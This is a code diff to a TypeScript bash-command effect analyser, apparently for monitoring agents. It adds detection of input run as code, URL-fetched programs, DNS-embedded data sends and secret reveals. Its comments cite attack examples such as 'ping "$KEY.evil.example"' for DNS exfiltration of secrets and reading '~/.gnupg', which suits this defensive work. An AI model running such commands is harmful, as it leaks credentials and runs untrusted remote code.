@@ -14,6 +14,7 @@ import type { ProgramKnowledge, Rule } from '../knowledge/types.js';
 import { type EffectContext, pathOf, upstreamOf } from './context.js';
 import { sourcesOf } from './sources.js';
 import { printsRemoteContent } from '../knowledge/remote.js';
+import { FILTERS } from '../knowledge/text.js';
 
 /**
  * awk programs that run their input as command lines: `system($0)`, `system(x)` of a field or
@@ -44,6 +45,7 @@ export function commandEffects(c: BashCommand, ec: EffectContext): void {
   if (SHELLS.has(c.name) && c.flags.includes('c')) substitutedCode(c, ec);
   if (c.name === '') return;
   ec.out.push(execOf(c, ec));
+  if (runsInputAsCode(c, ec)) ec.out.push({ ...base, type: 'unknown', reason: `input_as_code:${c.via}` });
   const entry = knowledgeOf(c.name);
   if (entry === undefined) {
     if (!c.name.includes('=') && runsGivenCommandLine(c, ec)) ec.out.push({ ...base, type: 'unknown', reason: 'unknown_program_runs_command' });
@@ -61,6 +63,33 @@ export function commandEffects(c: BashCommand, ec: EffectContext): void {
     const fed = fedBy(upstreamOf(c.id, ec), ec);
     if (fed !== null) ec.out.push({ producer, command: c.id, type: 'exec', program: 'sh', argv: ['sh', '-c'], language: 'bash', code: null, origin: fed, script: null });
   }
+}
+
+/** Placeholders xargs and parallel replace with an input item. */
+const PLACEHOLDERS = new Set(['{}', '{.}', '{/}', '{//}', '{/.}', '{#}', '{%}']);
+
+/**
+ * A shell or interpreter that xargs or parallel hands its input lines as the code itself
+ * (`cat tasks.txt | xargs -L1 sh -c`, `xargs -I{} bash -c '{}'`), or parallel given no command
+ * (each input line is one): the command lines run are whatever the input holds, unknown here.
+ * Input that is only data inside a fixed script (`xargs -I{} sh -c 'mv {} {}.bak'`) is not this.
+ */
+function runsInputAsCode(c: BashCommand, ec: EffectContext): boolean {
+  if (c.name === 'parallel' && !c.args.some((a) => a === ':::' || a === '::::')) {
+    const scan = parseArgs('parallel', c.args, knowledgeOf('parallel'));
+    if (scan.operands.length === 0 && !ec.facts.commands.some((x) => x.parent === c.id && x.via === 'parallel')) return true;
+  }
+  if (c.via !== 'xargs' && c.via !== 'parallel') return false;
+  if (languageOf(c.name) === null) return false;
+  const codeFlag = c.flags.some((f) => f === 'c' || f === 'e' || f === 'E' || f === 'r' || f === '--eval' || f === '--command');
+  if (!codeFlag) return false;
+  // Shells' -c lines are walked as nested commands (no inline_code): the word after the flag.
+  const flagAt = c.argv.findIndex((a, i) => i > 0 && /^-[A-Za-z]*[ceEr]$|^--(?:eval|command)$/.test(a));
+  const code = (c.inline_code?.code ?? (flagAt > 0 ? c.argv[flagAt + 1] : undefined) ?? '').trim();
+  const parent = c.parent !== null ? ec.facts.commands[c.parent] : undefined;
+  const replace = parent !== undefined ? parseArgs(parent.name, parent.args, { options: { short: 'IiEdsLnP', long: ['replace', 'delimiter', 'max-args', 'max-lines', 'max-procs', 'eof', 'arg-file'] }, rules: [] }).values : new Map<string, string[]>();
+  const replstr = replace.get('I')?.[0] ?? replace.get('i')?.[0] ?? replace.get('--replace')?.[0];
+  return code === '' || PLACEHOLDERS.has(code) || (replstr !== undefined && code === replstr);
 }
 
 /**
@@ -116,6 +145,9 @@ function originOf(c: BashCommand, ec: EffectContext): string {
   }
   if (SHELLS.has(c.name) && c.flags.includes('c')) return argvOrigin(c);
   if (c.operands.length > 0 && c.operands[0].startsWith('<(')) return 'process_substitution';
+  // A runtime given a URL as its program (`deno run -A https://…/mod.ts`, `bun https://…`) fetches and runs it.
+  const program = c.operands[0] === 'run' ? c.operands[1] : c.operands[0];
+  if (languageOf(c.name) !== null && program !== undefined && /^https?:\/\//i.test(program)) return 'network';
   // A module or a script file named on the command line (`python3 -m json.tool`, `bash x.sh`): stdin is its data.
   if (languageOf(c.name) !== null && (c.flags.includes('m') || (c.operands.length > 0 && !namesStdin(c.operands[0])))) return argvOrigin(c);
   const ups = upstreamOf(c.id, ec);
@@ -152,7 +184,11 @@ function applyRule(rule: Rule, c: BashCommand, parsed: ParsedArgs, entry: Progra
   switch (rule.effect) {
     case 'delete': {
       const recursive = rule.recursive === true || (rule.recursive_flags ?? []).some((f) => parsed.flags.has(f));
-      let targets = [...selectOperands(rule, parsed), ...optionValues(parsed, rule.options)];
+      const folder = optionValues(parsed, rule.relative_to).pop();
+      let selected = selectOperands(rule, parsed);
+      if (selected.length === 0 && rule.default_operand !== undefined) selected = [rule.default_operand];
+      if (folder !== undefined) selected = selected.map((w) => (w.startsWith('/') || w.startsWith('~') || w.startsWith('$') ? w : w === '.' ? folder : `${folder.replace(/\/+$/, '')}/${w}`));
+      let targets = [...selected, ...optionValues(parsed, rule.options), ...(rule.fixed ?? [])];
       const filter = (rule.filtered_by ?? []).find((f) => parsed.flags.has(f));
       if (filter !== undefined) {
         const pattern = parsed.values.get('name')?.[0] ?? parsed.values.get('iname')?.[0] ?? '*';
@@ -166,11 +202,15 @@ function applyRule(rule: Rule, c: BashCommand, parsed: ParsedArgs, entry: Progra
         ec.out.push({ ...base, type: 'write', path, mode: rule.mode, content: null });
       }
       return;
-    case 'read':
-      for (const path of files([...selectOperands(rule, parsed), ...optionValues(parsed, rule.options), ...assignedValues(parsed, rule.assign)])) {
+    case 'read': {
+      // Operands relative to a folder option (`tar -C ~ .gnupg`) are read there.
+      const folder = optionValues(parsed, rule.relative_to).pop();
+      const operands = selectOperands(rule, parsed).map((w) => (folder !== undefined && !w.startsWith('/') && !w.startsWith('~') && !w.startsWith('$') ? `${folder.replace(/\/+$/, '')}/${w}` : w));
+      for (const path of files([...operands, ...optionValues(parsed, rule.options), ...assignedValues(parsed, rule.assign)])) {
         ec.out.push({ ...base, type: 'read', path });
       }
       return;
+    }
     case 'chmod': {
       const [mode, ...targets] = parsed.operands;
       if (mode === undefined) return;
@@ -230,12 +270,18 @@ function applyRule(rule: Rule, c: BashCommand, parsed: ParsedArgs, entry: Progra
     }
     case 'file_commands': {
       const named = optionValues(parsed, rule.file_options);
-      const scripts = named.length > 0 ? named : rule.files.slice(0, 1);
+      const folder = optionValues(parsed, rule.dir_options).pop();
+      const defaults = rule.files.slice(0, 1).map((f) => (folder !== undefined ? `${folder.replace(/\/+$/, '')}/${f}` : f));
+      const scripts = named.length > 0 ? named : defaults;
       for (const file of scripts) {
         ec.out.push({ ...base, type: 'exec', program: c.name, argv: c.argv, language: rule.language ?? 'bash', code: null, origin: file.startsWith('<(') ? 'process_substitution' : 'file', script: file.startsWith('<(') ? null : pathOf(c, file, ec) });
       }
       return;
     }
+    case 'reveal':
+      if (ec.out.some((e) => e.type === 'reveal' && e.command === c.id)) return;
+      ec.out.push({ ...base, type: 'reveal', secret: rule.secret, to: revealedTo(c, ec) });
+      return;
     case 'command_line':
       // The command lines were walked as nested commands (carriers.ts); each states its own effects.
       return;
@@ -257,7 +303,9 @@ function connect(rule: Extract<Rule, { effect: 'connect' }>, c: BashCommand, par
     return;
   }
   if (rule.peer === 'host_port') {
-    const words = parsed.operands.filter((w) => !w.startsWith('-'));
+    // dig's `+short` and `@resolver` are not the name looked up.
+    const words = parsed.operands.slice(subDepth(rule.when)).filter((w) => !w.startsWith('-') && !w.startsWith('+') && !w.startsWith('@'));
+    namedData(c, words, ec, base);
     const host = words.find((w) => !/^\d+$/.test(w)) ?? (listen ? '0.0.0.0' : '');
     const portWord = words.find((w) => /^\d+$/.test(w)) ?? parsed.values.get('p')?.[0];
     if (host !== '' || listen) push(host, portWord !== undefined ? Number(portWord) : null, null);
@@ -265,6 +313,25 @@ function connect(rule: Extract<Rule, { effect: 'connect' }>, c: BashCommand, par
   }
   for (const u of c.urls) push(u.host, u.port, u);
   for (const d of destinations(parsed, c)) push(d, null, null);
+}
+
+/** A variable or a substitution inside a word (`$(…)`, `${…}`, `$X`, backquotes). */
+const DYNAMIC_PART = /\$\((?:[^()]|\([^()]*\))*\)|\$\{[^}]*\}|\$\w+|`[^`]*`/g;
+
+/**
+ * Data inside a name a program connects to or looks up (`nslookup $(… $TOKEN …).x.example`,
+ * `ping "$KEY.evil.example"`): the name carries it to the name's servers, so it is a send to
+ * that domain with the sources that flow into the command.
+ */
+function namedData(c: BashCommand, words: readonly string[], ec: EffectContext, base: { producer: string; command: number }): void {
+  const dynamic = words.filter((w) => /\$[({\w]|`/.test(w));
+  if (dynamic.length === 0) return;
+  const sources = sourcesOf(c, ec, []);
+  if (sources.length === 0) return;
+  for (const w of dynamic) {
+    const domain = w.replace(DYNAMIC_PART, '').replace(/^[.-]+/, '');
+    ec.out.push({ ...base, type: 'send', sink: domain !== '' ? domain : w, url: null, sources });
+  }
 }
 
 /** socat's `TCP:host:port`, `TCP-LISTEN:port`, `EXEC:`/`SYSTEM:` addresses. */
@@ -306,6 +373,37 @@ function send(rule: Extract<Rule, { effect: 'send' }>, c: BashCommand, parsed: P
   const sendsSomething = sources.length > 0 || data.length > 0 || rule.stdin === true || rule.file_operands === true || c.name === 'git';
   if (!sendsSomething) return;
   for (const { sink, url } of sinks) ec.out.push({ ...base, type: 'send', sink, url: url ?? null, sources });
+}
+
+/** Options of a login that reads the secret from its stdin (`docker login --password-stdin`). */
+const STDIN_LOGIN = /^--(?:password|token|secret)-stdin$/;
+
+/**
+ * Where a command's output goes: into a login that reads it from stdin, into another command
+ * or a substitution, into a file, or else to the agent's context. A pipe whose every reader
+ * only prints (`| jq -r .token`, `| base64`, `| tee`) still ends in the context.
+ */
+function revealedTo(c: BashCommand, ec: EffectContext): 'context' | 'pipe' | 'file' | 'login' {
+  const downstream = ec.facts.commands.filter((d) => d.id !== c.id && upstreamOf(d.id, ec).includes(c.id));
+  if (downstream.some((d) => d.args.some((a) => STDIN_LOGIN.test(a)))) return 'login';
+  if (c.via === 'command_substitution' || c.via === 'process_substitution') return 'pipe';
+  if (downstream.length > 0) {
+    const last = downstream[downstream.length - 1];
+    if (downstream.every((d) => onlyPrints(d)) && !last.redirects.some(stdoutToFile)) return 'context';
+    return 'pipe';
+  }
+  return c.redirects.some(stdoutToFile) ? 'file' : 'context';
+}
+
+function stdoutToFile(r: { write: boolean; fd: number | null; path: PathFact | null }): boolean {
+  return r.write && (r.fd === null || r.fd === 1) && r.path !== null && r.path.path !== '/dev/null';
+}
+
+/** A filter that prints what it reads (knowledge/text.ts), and runs no code of its own here. */
+function onlyPrints(d: BashCommand): boolean {
+  if (d.via === 'command_substitution' || d.via === 'process_substitution') return false;
+  if (d.inline_code !== null && d.name !== 'jq' && d.name !== 'awk' && d.name !== 'sed') return false;
+  return FILTERS.has(d.name);
 }
 
 function signalOf(parsed: ParsedArgs, options: readonly string[] | undefined): string {
